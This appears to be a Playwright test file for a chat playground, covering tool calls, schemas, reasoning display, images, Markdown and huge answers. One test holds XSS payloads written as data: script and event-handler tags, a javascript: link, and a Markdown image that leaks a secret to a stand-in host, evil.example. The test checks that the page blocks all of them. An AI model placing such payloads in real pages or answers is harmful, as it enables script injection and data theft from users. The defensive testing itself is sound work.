// What a turn of the playground may hold: tools, schemas, thoughts, images, Markdown, and answers that attack.

import { expectAccessible } from "./axe";
import { expect, reload, test } from "./browser";
import { charged, openChat, promptField, runButton, say, turns, watchRuns } from "./chatting";

test("a model's call is shown with its arguments, and its result goes on", async ({ page }) => {
  await openChat(page);
  const bodies = watchRuns(page);
  await page.getByText("Tools and structured output").click();
  await page.getByRole("button", { name: "Use an example" }).first().click();
  await say(page, 'Weather? [[simulate: tool=get_weather args="{\\"city\\":\\"Oslo\\"}"]]');
  await expect(page.getByLabel("Tool calls")).toContainText('"city": "Oslo"');
  await expectAccessible(page, "/playground with a tool call");
  await page.getByLabel("Result of get_weather").fill('{"celsius": 4}');
  await page.getByRole("button", { name: "Send results" }).click();
  await expect(turns(page)).toHaveCount(2);
  await expect(charged(page)).toBeVisible();
  expect(bodies[1]?.messages.slice(1)).toMatchObject([
    { role: "assistant", tool_calls: [{ function: { name: "get_weather", arguments: '{"city":"Oslo"}' } }] },
    { role: "tool", content: '{"celsius": 4}' },
  ]);
  await expect(turns(page).last()).toContainText("celsius");
  await expect(promptField(page)).toBeVisible();
});

test("an answer follows its schema, and a wrong schema is reported before a run", async ({ page }) => {
  await openChat(page);
  await page.getByText("Tools and structured output").click();
  await page.getByLabel("Answer schema (JSON)").fill("{");
  await promptField(page).fill("Hi");
  await expect(page.getByText(/^This is not valid JSON\./)).toBeVisible();
  await expect(runButton(page)).toBeDisabled();
  await page
    .getByLabel("Answer schema (JSON)")
    .fill('{"type":"object","properties":{"answer":{"type":"string"}},"required":["answer"],"additionalProperties":false}');
  await runButton(page).click();
  await expect(charged(page)).toBeVisible();
  await expect(turns(page)).toContainText('"answer"');
});

test("thoughts are folded away", async ({ page }) => {
  await openChat(page, "claude-sonnet-4-5");
  await page.getByLabel("Reasoning effort").selectOption("low");
  await page.getByLabel("Max tokens").fill("4000");
  await say(page, "Think. [[simulate: reasoning=50 tokens=20]]");
  const thoughts = turns(page).locator("summary", { hasText: "Reasoning" });
  await expect(thoughts.locator("xpath=..")).not.toHaveAttribute("open");
  await thoughts.click();
  await expect(thoughts.locator("xpath=..")).toHaveAttribute("open");
  await expectAccessible(page, "/playground with reasoning");
});

const png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

test("an image goes with its turn, and is not kept", async ({ page }) => {
  await openChat(page);
  const bodies = watchRuns(page);
  await page.getByLabel("Add images").setInputFiles({ name: "dot.png", mimeType: "image/png", buffer: Buffer.from(png, "base64") });
  await expect(page.getByRole("img", { name: "dot.png" })).toBeVisible();
  await say(page, "What is it?");
  expect(bodies[0]?.messages[0]?.content).toMatchObject([
    { type: "text", text: "What is it?" },
    { type: "image_url", image_url: { url: expect.stringMatching(/^data:image\/png;base64,/) } },
  ]);
  await reload(page);
  await expect(page.getByText("dot.png: not kept")).toBeVisible();
});

test("an answer cannot run a script, load an image or send its reader elsewhere", async ({ page, watch }) => {
  await openChat(page);
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  const attack = [
    "<img src=https://evil.example/a onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)>",
    "![leak](https://evil.example/leak?secret=1) [click](javascript:alert(4)) [web](https://evil.example/)",
  ].join("\\n\\n");
  await promptField(page).fill(`[[simulate: text="${attack}"]]`);
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await runButton(page).click();
  await expect(charged(page)).toBeVisible();
  const answer = turns(page).last();
  await expect(answer.getByRole("link", { name: "Image: leak" })).toHaveAttribute("rel", "noopener noreferrer nofollow");
  await expect(answer.getByRole("link", { name: "web" })).toHaveAttribute("target", "_blank");
  await expect(answer.getByRole("link", { name: "click" })).toHaveCount(0);
  expect(await answer.evaluate((element) => element.querySelectorAll("img, script, iframe, svg[onload]").length)).toBe(0);
  expect(dialogs).toBe(0);
  expect(requests.filter((url) => url.includes("evil.example"))).toEqual([]);
  expect(watch.faults).toEqual([]);
});

test("Markdown and code are drawn, and code is copied as it was written", async ({ page }) => {
  await openChat(page);
  const markdown = "# Title\\n\\n- one\\n- **two**\\n\\n```ts\\nconst a = 1;\\n```\\n\\n| a | b |\\n|---|---|\\n| 1 | 2 |";
  await say(page, `[[simulate: text="${markdown}"]]`);
  const answer = turns(page).last();
  await expect(answer.getByRole("listitem").filter({ hasText: "two" })).toBeVisible();
  await expect(answer.locator("code span", { hasText: "const" })).toBeVisible();
  await expect(answer.getByRole("cell", { name: "2", exact: true })).toBeVisible();
  await expect(answer.getByRole("button", { name: "Copy the code" })).toBeVisible();
  await expectAccessible(page, "/playground with Markdown");
});

test("an answer of a megabyte does not freeze the page, and of it a part is kept, which the page says", async ({ page }) => {
  test.setTimeout(180_000);
  await openChat(page);
  const text = "A sentence of a very long answer, with **bold** words in it.\n\n".repeat(17_000);
  const pieces = Array.from({ length: Math.ceil(text.length / 2_000) }, (_, index) => text.slice(index * 2_000, (index + 1) * 2_000));
  const done = { success: true, text, usage: { inputTokens: 1, outputTokens: 1 }, cost: { inputCost: 0.000001, outputCost: 0.000001 } };
  const events = [
    ...pieces.map((piece) => `event: delta\ndata: ${JSON.stringify({ text: piece })}`),
    `event: done\ndata: ${JSON.stringify(done)}`,
  ];
  await page.route("**/playground/answer", (route) =>
    route.fulfill({ status: 200, contentType: "text/event-stream", body: `${events.join("\n\n")}\n\n` }),
  );
  await promptField(page).fill("Write a book");
  await runButton(page).click();
  await expect(charged(page)).toBeVisible({ timeout: 60_000 });
  await promptField(page).fill("Still here");
  await expect(promptField(page)).toHaveValue("Still here", { timeout: 5_000 });
  await expect(turns(page).locator("strong")).toHaveCount(17_000);
  await page.unroute("**/playground/answer");
  await reload(page);
  await expect(page.getByText("This turn was too long to keep.", { exact: false })).toBeVisible();
});
